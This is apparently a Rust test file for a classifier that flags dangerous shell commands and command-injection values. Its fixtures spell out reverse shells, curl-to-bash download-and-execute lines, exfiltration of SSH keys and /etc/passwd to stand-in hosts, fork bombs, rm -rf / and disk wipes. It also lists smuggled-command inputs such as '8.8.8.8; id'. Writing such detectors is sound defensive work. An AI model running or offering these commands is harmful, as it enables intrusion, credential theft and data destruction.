use super::*;

fn rules(text: &str, is_argument: bool) -> Vec<&'static str> {
    let words = Words::new(include_str!("../../data/words.txt"), std::collections::BTreeMap::new()).unwrap();
    let mut hits = Hits::default();
    judge_bytes(text.as_bytes(), 0, is_argument, &words, &mut hits);
    for hit in &hits.0 {
        assert!(text.get(hit.range.clone()).is_some(), "{text}: {hit:?}");
    }
    hits.0.iter().map(|hit| hit.rule).collect()
}

#[test]
fn dangerous_pipelines() {
    for (text, rule) in [
        ("curl -s http://x.example/a.sh | sudo bash -s", "shell.download-exec"),
        ("bash -c \"$(wget -qO- https://x.example/i)\"", "shell.download-exec"),
        ("bash <(curl -s x.example/i)", "shell.download-exec"),
        ("echo aGk= | base64 -d | sh", "shell.decode-exec"),
        ("cat ~/.ssh/id_rsa | nc 10.0.0.1 4444", "shell.exfiltrate"),
        ("curl -d @/etc/passwd http://x.example", "shell.exfiltrate"),
        ("echo x | sudo tee -a /etc/sudoers", "shell.write-sensitive"),
        ("(crontab -l; echo '* * * * * x') | crontab -", "shell.schedule"),
        ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "shell.reverse-shell"),
        ("nc -e /bin/sh 10.0.0.1 4242", "shell.reverse-shell"),
        ("echo key >> ~/.ssh/authorized_keys", "shell.write-sensitive"),
        (":(){ :|:& };:", "shell.fork-bomb"),
        ("bomb() { bomb | bomb & }; bomb", "shell.fork-bomb"),
        ("r\\m -r\"f\" /", "shell.delete-system"),
        ("x; rm -rf / --no-preserve-root", "shell.delete-chained"),
        ("a.txt; cat /etc/passwd", "shell.read-chained"),
        ("x; cat${IFS}/etc/shadow", "shell.read-chained"),
        ("/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/443 0>&1'", "shell.reverse-shell"),
        ("nc 10.0.0.1 1234 -e /bin/bash", "shell.reverse-shell"),
        ("mkfifo f; cat f | /bin/sh -i 2>&1 | nc 10.0.0.1 1 > f", "shell.reverse-shell"),
        ("bash -c \"$(echo aGk= | base64 --decode)\"", "shell.decode-exec"),
        ("sh -c 'curl x.example | sh'", "shell.download-exec"),
        ("mkfs.ext4 /dev/sda1", "shell.disk"),
        ("chmod u+s /bin/bash", "shell.permissions-system"),
        ("IEX(New-Object Net.WebClient).DownloadString('http://x/a')", "shell.powershell-encoded"),
        ("iex (iwr http://x.example/a.ps1)", "shell.powershell-encoded"),
        ("rm -r -f ~/*", "shell.delete-system"),
        ("sudo rm -rf /usr/", "shell.delete-system"),
        ("rm -rf /*", "shell.delete-system"),
        ("chmod -R 777 /etc", "shell.permissions-system"),
        ("dd if=/dev/zero of=/dev/sda", "shell.disk"),
        ("powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A", "shell.powershell-encoded"),
    ] {
        assert!(rules(text, false).contains(&rule), "{text}: {:?}", rules(text, false));
    }
}

#[test]
fn ordinary_commands() {
    for text in [
        "rm build/*.o && make",
        "curl https://x.example/a.json | python -m json.tool",
        "curl -O https://x.example/a.tgz",
        "cat a.txt | grep b | sort > /dev/null 2>&1",
        "We cat and dog; we id nothing",
        "a && b || c",
        "| Type | Description | Head |",
        "it turned; head slightly tilted",
        "the regular complexity; more time",
    ] {
        let found = rules(text, false);
        assert!(
            found.iter().all(|rule| matches!(*rule, "shell.chained" | "shell.delete")),
            "{text}: {found:?}"
        );
    }
}

#[test]
fn a_value_with_a_command_behind_it() {
    for text in ["8.8.8.8; id", "x && whoami", "$(curl x.example)", "`id`", "x | nc 10.0.0.1 1"] {
        assert!(
            rules(text, true).iter().any(|rule| rule.ends_with("danger")),
            "{text}: {:?}",
            rules(text, true)
        );
    }
}
